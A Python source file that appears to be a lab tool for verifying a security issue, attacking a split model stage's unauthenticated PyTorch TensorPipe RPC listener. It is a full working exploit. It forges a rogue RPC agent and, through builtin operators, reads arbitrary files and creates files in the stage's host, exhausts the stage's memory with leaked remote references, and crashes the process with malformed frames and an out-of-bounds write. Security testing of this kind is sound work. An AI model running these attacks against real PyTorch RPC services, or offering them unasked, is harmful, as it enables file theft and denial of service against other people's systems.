"""A local process without the secret against a split stage's TensorPipe listeners (issue 48, 1).

    python -m labtools.hosts.rogue_rpc --target HOST:PORT --attack ATTACK [--path P]
        [--lane HOST:PORT] [--victim-pid PID] [--expect-sha256 HEX] [--size N] [--timeout S]
        [--as-user USER]
    (or `python labtools/hosts/rogue_rpc.py ...`: the file stands alone)

TARGET is the stage's TensorPipe listener (the `uv://HOST:PORT` its agent publishes under
`addrs/<name>` in the run's store; any local user sees the port in `ss -ltn`). Prints one JSON
line `{"attack", "connected", "succeeded", "detail"}` and exits 0 whether or not the attack
worked; nonzero only for a bug of its own. Only torch and the standard library: another user (uid
`nobody`) runs it with nothing of the project's config; where that user cannot start the
interpreter (a pyenv under a 0700 /root), root starts it with `--as-user nobody` and it drops to
that uid once torch is imported, before its first connection.

How it reaches the stage's C++ paths: TensorPipe has no authentication and the stage does not ask
who calls. The attacker builds its own `TensorPipeAgent` in a two-rank world of its own, on a
`HashStore` it fills itself: rank 1's name maps (`names/1`, `addrs/<name>`) to the victim's real
URL. A builtin operator sent there runs in the stage, below the repository's RPC guard (which sees
Python calls only).

Attacks, each verified here:
- `file-read`: `aten::from_file` of PATH in the stage (a first call with a huge size makes the
  stage's error name the file's size). Succeeded: bytes came back, and equal `--expect-sha256`,
  or PATH's contents where this process can read PATH itself.
- `file-write`: `aten::from_file(PATH, shared=True, size=N)` creates PATH as the stage's user
  (mode 0600), N zero bytes (default 4096). Succeeded: PATH did not exist before and has N bytes
  after. (`aten::save`, which writes chosen content, is not reachable from torch 2.13's client:
  its `t item` argument cannot be converted by the client's schema matcher, and a TorchScript
  call named `torch.ops.aten.*` puts the is-async flag where the stage reads the schema.)
- `memory`: 8 `aten::ones` of 64 MiB through `rpc.remote`, each confirmed by the stage, from a
  child process that then exits without deleting its RRefs: the stage owns them forever.
  Succeeded: the stage's RSS (`--victim-pid`, or found through /proc where this user may) grew by
  >= 400 MiB once the child is gone.
- `kill-0xff`: 16 bytes of 0xff on TARGET: TensorPipe reads them as a frame length
  (std::bad_alloc, abort).
- `kill-segment`: `aten::_segment_reduce_backward` with a segment of 2^40 elements over 4: an
  out-of-bounds write in the stage (SIGSEGV).
- `kill-lane`: junk on one of the `mpt_uv` channel's lane listeners (`--lane`; without it, each
  other listener of the stage's pid in turn, or where its fds are not readable, the listeners
  of its owner on its address, nearest in socket inode first): the lane's decoder aborts
  (`Unexpected Encoding Type`).
  Kills succeed when the stage's pid is gone (a zombie counts), or without a pid, when TARGET
  stops accepting connections.
"""

from __future__ import annotations

import argparse
import errno
import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

ATTACKS = ("file-read", "file-write", "memory", "kill-0xff", "kill-segment", "kill-lane")
VICTIM = "victim"
"""What the attacker calls the stage in its own world; the stage never checks names."""
HOLD_MIB, HOLD_COUNT, HOLD_MIN_MIB = 64, 8, 400
PROBE_SIZE = 1 << 40


class Result(Exception):
    """The attack's outcome, raised from wherever it became known."""

    def __init__(self, connected: bool, succeeded: bool, detail: str) -> None:
        super().__init__(detail)
        self.connected, self.succeeded, self.detail = connected, succeeded, detail


# ----------------------------------------------------------------------------- the host side


def split_hostport(text: str) -> tuple[str, int]:
    host, sep, port = text.rpartition(":")
    if not sep or not port.isdigit():
        raise SystemExit(f"expected HOST:PORT, got {text!r}")
    return host.strip("[]"), int(port)


def _listening_inodes(with_uid: bool = False) -> dict[int, tuple]:
    """Every TCP listener of this network namespace, by socket inode: (address, port), and its
    owner's uid `with_uid` (/proc/net/tcp{,6} list them for every user)."""
    found: dict[int, tuple] = {}
    for table, width in (("/proc/net/tcp", 4), ("/proc/net/tcp6", 16)):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) < 10 or fields[3] != "0A":  # 0A: LISTEN
                continue
            hex_address, hex_port = fields[1].split(":")
            raw = bytes.fromhex(hex_address)
            # the kernel prints each 32-bit word in host (little-endian) order
            raw = b"".join(raw[i : i + 4][::-1] for i in range(0, len(raw), 4))
            family = socket.AF_INET if width == 4 else socket.AF_INET6
            where = (socket.inet_ntop(family, raw), int(hex_port, 16))
            found[int(fields[9])] = (*where, int(fields[7])) if with_uid else where
    return found


def listeners_of(pid: int) -> list[tuple[str, int]]:
    """The TCP listeners process `pid` holds (empty where this user may not read its fds)."""
    inodes = _listening_inodes()
    found = []
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return []
    for fd in fds:
        try:
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        match = re.fullmatch(r"socket:\[(\d+)\]", link)
        if match and int(match[1]) in inodes:
            found.append(inodes[int(match[1])])
    return sorted(set(found))


def neighbours_of(port: int) -> list[tuple[str, int]]:
    """Where another user cannot read the stage's fds: the listeners of the same owner on the
    same address as `port`'s, nearest in socket inode first (a process opens its TensorPipe
    listener and its channel's lanes together, so they are numbered together)."""
    listening = _listening_inodes(with_uid=True)
    mine = [(inode, row) for inode, row in listening.items() if row[1] == port]
    if not mine:
        return []
    inode0, (address0, _, uid0) = mine[0]
    near = sorted(
        (abs(inode - inode0), (address, p))
        for inode, (address, p, uid) in listening.items()
        if uid == uid0 and address == address0 and p != port
    )
    return [where for _, where in near]


def pid_listening_on(port: int) -> int | None:
    """The process listening on `port`, where this user may see it (its own, or as root)."""
    wanted = {inode for inode, (_, p) in _listening_inodes().items() if p == port}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            for fd in os.listdir(f"/proc/{entry}/fd"):
                match = re.fullmatch(r"socket:\[(\d+)\]", os.readlink(f"/proc/{entry}/fd/{fd}"))
                if match and int(match[1]) in wanted:
                    return int(entry)
        except OSError:
            continue
    return None


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")


def rss_mib(pid: int) -> float | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return None


def wait_dead(pid: int | None, wait_s: float) -> tuple[bool, str]:
    """Whether the stage's process died within `wait_s`. Not its port: one TCP connection
    closed before TensorPipe's first frame already closes the stage's TensorPipe listener for
    good (the process lives on), so a closed port proves no kill."""
    if pid is None:
        return False, "no pid to watch (give --victim-pid)"
    deadline = time.monotonic() + wait_s
    while time.monotonic() < deadline:
        if not alive(pid):
            return True, f"pid {pid} gone"
        time.sleep(0.2)
    return False, f"pid {pid} still alive after {wait_s:g} s"


# ----------------------------------------------------------------------------- a world of one's own


def join_victim(host: str, port: int, timeout_s: float):
    """This process's own TensorPipe agent, in a world where rank 1 is the victim."""
    import torch.distributed as dist
    import torch.distributed.autograd as dist_autograd
    import torch.distributed.rpc as rpc
    from torch.distributed.rpc import api

    if host in ("127.0.0.1", "::1", "localhost"):
        os.environ.setdefault("TP_SOCKET_IFNAME", "lo")  # our own listener, nobody calls it
    url = f"uv://[{host}]:{port}" if ":" in host else f"uv://{host}:{port}"
    store = dist.HashStore()
    store.set("names/1", VICTIM)  # what the agent's collectNames reads for rank 1
    store.set(f"addrs/{VICTIM}", url)  # where it connects when it first sends to rank 1
    options = rpc.TensorPipeRpcBackendOptions(
        num_worker_threads=4, rpc_timeout=timeout_s, _transports=["uv"], _channels=["basic"]
    )
    dist_autograd._init(0)  # builtin calls go through distributed autograd's bookkeeping
    agent = rpc.TensorPipeAgent(store, "rogue", 0, 2, options, {}, [])
    api._init_rpc_states(agent)
    return agent


def _error(exc: BaseException) -> str:
    return str(exc).split("\n", 1)[0][:300]


UNREACHABLE = ("ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "ETIMEDOUT", "EACCES", "EPERM")


def unreachable(exc: BaseException) -> bool:
    """Whether `exc` says no TCP connection to the stage was made at all (refused, no route,
    timed out, or a local firewall rule's EPERM), as TensorPipe's errors and Python's say it."""
    if isinstance(exc, (ConnectionRefusedError, TimeoutError, socket.timeout)):
        return True
    if isinstance(exc, OSError) and exc.errno is not None:
        return errno.errorcode.get(exc.errno, "") in UNREACHABLE
    return any(code in str(exc) for code in UNREACHABLE)


def read_file(args) -> Result:
    import torch
    import torch.distributed.rpc as rpc

    join_victim(args.host, args.port, args.timeout)
    size = args.size
    if size is None:
        try:
            rpc.rpc_sync(
                VICTIM,
                torch.from_file,
                args=(args.path, False, PROBE_SIZE),
                kwargs={"dtype": torch.uint8},
            )
            return Result(True, False, "a 1 TiB read did not fail: no size learnt")
        except Exception as exc:
            match = re.search(r"size <(\d+)> is smaller", str(exc))
            if not match:
                return Result(
                    not unreachable(exc), False, f"stage refused the probe: {_error(exc)}"
                )
            size = min(int(match[1]), args.max_bytes)
    try:
        got = rpc.rpc_sync(
            VICTIM, torch.from_file, args=(args.path, False, size), kwargs={"dtype": torch.uint8}
        )
    except Exception as exc:
        return Result(not unreachable(exc), False, f"stage refused the read: {_error(exc)}")
    data = got.numpy().tobytes()
    digest = hashlib.sha256(data).hexdigest()
    expected, source = args.expect_sha256, "--expect-sha256"
    if expected is None:
        try:
            expected, source = hashlib.sha256(Path(args.path).read_bytes()).hexdigest(), "the file"
        except OSError:
            source = "nothing (this user cannot read the file itself)"
    matches = expected is None or digest == expected.lower()
    verdict = "n/a" if expected is None else "equal" if matches else "differ"
    detail = (
        f"read {len(data)} bytes of {args.path} through the stage, sha256 {digest[:16]}; "
        f"compared with {source}: {verdict}"
    )
    return Result(True, bool(data) and matches, detail)


def write_file(args) -> Result:
    import torch
    import torch.distributed.rpc as rpc

    size = args.size or 4096
    existed = os.path.lexists(args.path)
    join_victim(args.host, args.port, args.timeout)
    try:
        rpc.rpc_sync(
            VICTIM, torch.from_file, args=(args.path, True, size), kwargs={"dtype": torch.uint8}
        )
    except Exception as exc:
        return Result(not unreachable(exc), False, f"stage refused the write: {_error(exc)}")
    try:
        stat = os.stat(args.path)
    except OSError as exc:
        return Result(True, False, f"the stage answered but {args.path} is not there: {exc}")
    created = not existed and stat.st_size == size
    return Result(
        True,
        created,
        f"{args.path} {'existed before' if existed else 'created'}: "
        f"{stat.st_size} bytes, owner uid {stat.st_uid}, mode {stat.st_mode & 0o777:o}",
    )


def hold_memory_child(args) -> None:
    """In the child: 8 x 64 MiB owned by the stage, then leave without a word."""
    import torch
    import torch.distributed.rpc as rpc

    join_victim(args.host, args.port, args.timeout)
    confirmed, held = 0, []  # every RRef kept: one dropped here tells the owner to free it
    try:
        # a plain call first: where no connection is made it raises at once, while an RRef's
        # creation future, on a refused connection, is never completed (torch 2.13)
        rpc.rpc_sync(VICTIM, torch.add, args=(torch.ones(1), 1), timeout=args.timeout)
        for _ in range(HOLD_COUNT):
            held.append(
                rpc.remote(
                    VICTIM, torch.ones, args=([HOLD_MIB << 18],), kwargs={"dtype": torch.float32}
                )
            )
            created = held[-1]._get_future()  # the stage built it and keeps it
            deadline = time.monotonic() + args.timeout
            while not created.done():
                if time.monotonic() > deadline:
                    raise TimeoutError(f"the stage did not confirm an RRef in {args.timeout} s")
                time.sleep(0.05)
            created.wait()
            confirmed += 1
        line: dict[str, object] = {"confirmed": confirmed}
    except Exception as exc:
        line = {"confirmed": confirmed, "error": _error(exc), "unreachable": unreachable(exc)}
    print(json.dumps(line), flush=True)
    os._exit(0)  # no RRef deletion, no shutdown: the owner is never told


def hold_memory(args) -> Result:
    pid = args.victim_pid or pid_listening_on(args.port)
    before = rss_mib(pid) if pid else None
    child = subprocess.run(
        [
            sys.executable,
            "-c",
            "import runpy, sys; sys.argv = sys.argv[1:]; "
            "runpy.run_path(sys.argv[0], run_name='__main__')",
            os.path.abspath(__file__),
            "--target",
            args.target,
            "--attack",
            "memory",
            "--timeout",
            str(args.timeout),
            "--hold-child",
            *(["--as-user", args.as_user] if args.as_user else []),
        ],
        capture_output=True,
        text=True,
        timeout=args.timeout * (HOLD_COUNT + 2),
    )
    try:
        told = json.loads(child.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        raise RuntimeError(f"the holding child failed: {child.stderr[-1500:]}") from None
    confirmed = told["confirmed"]
    what = f"{confirmed} x {HOLD_MIB} MiB confirmed by the stage" + (
        f" ({told['error']})" if "error" in told else ""
    )
    if told.get("unreachable") and not confirmed:
        return Result(False, False, told["error"])
    if pid is None or before is None:
        return Result(True, False, f"{what}; no --victim-pid, so its memory is not measured")
    time.sleep(1.0)
    after = rss_mib(pid)
    if after is None:
        return Result(True, False, f"{what}; the stage (pid {pid}) is gone")
    grew = after - before
    return Result(
        True,
        grew >= HOLD_MIN_MIB,
        f"{what}; the attacker left and the stage's RSS "
        f"grew {before:.0f} -> {after:.0f} MiB (+{grew:.0f}, needs {HOLD_MIN_MIB})",
    )


def kill_0xff(args) -> Result:
    pid = args.victim_pid or pid_listening_on(args.port)
    with socket.create_connection((args.host, args.port), timeout=3) as conn:
        conn.sendall(b"\xff" * 16)
        dead, how = wait_dead(pid, args.wait)
    return Result(True, dead, f"16 x 0xff sent to {args.target}: {how}")


def kill_segment(args) -> Result:
    import torch

    pid = args.victim_pid or pid_listening_on(args.port)
    from torch._C._distributed_rpc import _invoke_rpc_builtin

    agent = join_victim(args.host, args.port, args.timeout)
    import torch.distributed.rpc as rpc

    try:  # the call below is fire-and-forget: a plain one first says whether we got through
        rpc.rpc_sync(VICTIM, torch.add, args=(torch.ones(1), 1), timeout=args.timeout)
    except Exception as exc:
        return Result(not unreachable(exc), False, f"stage refused a call: {_error(exc)}")
    # by its qualified name: torch has no Python function that rpc maps to this operator
    _invoke_rpc_builtin(
        agent.get_worker_info(VICTIM),
        "aten::_segment_reduce_backward",
        args.wait,
        torch.ones(1),
        torch.ones(1),
        torch.ones(4),
        "sum",
        lengths=torch.tensor([1 << 40]),
        axis=0,
    )
    dead, how = wait_dead(pid, args.wait)
    return Result(True, dead, f"_segment_reduce_backward, lengths [2^40] over 4 elements: {how}")


LANE_JUNK = (64).to_bytes(8, "little") + b"\xa5" * 64
"""A frame as TensorPipe's uv connections frame them (an 8-byte length, then the body): a body
that is no nop encoding."""


def kill_lane(args) -> Result:
    pid = args.victim_pid or pid_listening_on(args.port)
    if args.lane:
        lanes = [split_hostport(args.lane)]
    elif pid is None:
        return Result(False, False, "no --lane and no pid: nothing to find the lanes by or watch")
    else:
        lanes = [lane for lane in listeners_of(pid) if lane[1] != args.port]
        lanes = lanes or neighbours_of(args.port)  # another user's fds are not readable
    tried = []
    for host, port in lanes:
        try:
            with socket.create_connection((host, port), timeout=3) as conn:
                conn.sendall(LANE_JUNK)
                dead, how = wait_dead(pid, args.wait if args.lane else min(args.wait, 2.0))
        except OSError as exc:
            tried.append(f"{host}:{port} ({exc})")
            continue
        tried.append(f"{host}:{port}")
        if dead:
            others = (
                f" (after {len(tried) - 1} other listeners, which may be other processes)"
                if len(tried) > 1
                else ""
            )
            return Result(True, True, f"junk frame on lane {host}:{port}{others}: {how}")
    return Result(
        bool(tried) and not all("(" in t for t in tried),
        False,
        f"junk on {len(tried)} listeners ({', '.join(tried[:4])}...): stage alive",
    )


def drop_to(user: str) -> None:
    """Go on as `user` (a name or a uid), everything this tool imports already imported: the
    interpreter may live where that user cannot read (a pyenv under a 0700 /root), and what
    the fence judges (nftables' `meta skuid`) is the uid that opens the socket."""
    import encodings.idna  # noqa: F401 - what socket.create_connection loads on first use
    import pwd

    import torch
    import torch.distributed.autograd
    import torch.distributed.rpc
    import torch.distributed.rpc.api
    from torch._C import _distributed_rpc  # noqa: F401

    torch.ones(1)  # nothing left to load lazily
    socket.getaddrinfo("localhost", 0)
    entry = pwd.getpwuid(int(user)) if user.isdigit() else pwd.getpwnam(user)
    os.setgroups([])
    os.setgid(entry.pw_gid)
    os.setuid(entry.pw_uid)


RUN = {
    "file-read": read_file,
    "file-write": write_file,
    "memory": hold_memory,
    "kill-0xff": kill_0xff,
    "kill-segment": kill_segment,
    "kill-lane": kill_lane,
}


def parse(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="rogue_rpc", description=__doc__.split("\n", 1)[0])
    parser.add_argument("--target", required=True, help="the stage's TensorPipe HOST:PORT")
    parser.add_argument("--attack", required=True, choices=ATTACKS)
    parser.add_argument("--path", help="file-read / file-write: the file in the stage's host")
    parser.add_argument("--lane", help="kill-lane: one of the stage's mpt_uv lane listeners")
    parser.add_argument("--victim-pid", type=int, help="the stage's pid (memory, kills)")
    parser.add_argument("--expect-sha256", help="file-read: what the file's bytes hash to")
    parser.add_argument(
        "--size",
        type=int,
        help="file-read: bytes to read (default: all); file-write: bytes to create (default 4096)",
    )
    parser.add_argument("--max-bytes", type=int, default=16 << 20)
    parser.add_argument("--timeout", type=float, default=20.0, help="per RPC, seconds")
    parser.add_argument("--wait", type=float, default=10.0, help="kills: how long to watch")
    parser.add_argument(
        "--as-user",
        help="root only: drop to this user (name or uid) once "
        "torch is imported, before the first connection",
    )
    parser.add_argument("--hold-child", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    args.host, args.port = split_hostport(args.target)
    if args.attack in ("file-read", "file-write") and not args.path:
        parser.error(f"{args.attack} needs --path")
    return args


def main(argv: list[str] | None = None) -> int:
    args = parse(argv)
    if args.as_user and (args.hold_child or args.attack != "memory"):
        drop_to(args.as_user)  # (memory: the child drops; this process only watches)
    if args.hold_child:
        hold_memory_child(args)
    try:
        result = RUN[args.attack](args)
    except Result as raised:
        result = raised
    except (OSError, RuntimeError) as exc:  # the stage's side broke the attack off
        result = Result(not unreachable(exc), False, f"{type(exc).__name__}: {_error(exc)}")
    print(
        json.dumps(
            {
                "attack": args.attack,
                "connected": result.connected,
                "succeeded": result.succeeded,
                "detail": result.detail,
            }
        ),
        flush=True,
    )
    os._exit(0)  # an agent of ours may be up: leave without its shutdown barrier


if __name__ == "__main__":
    sys.exit(main())
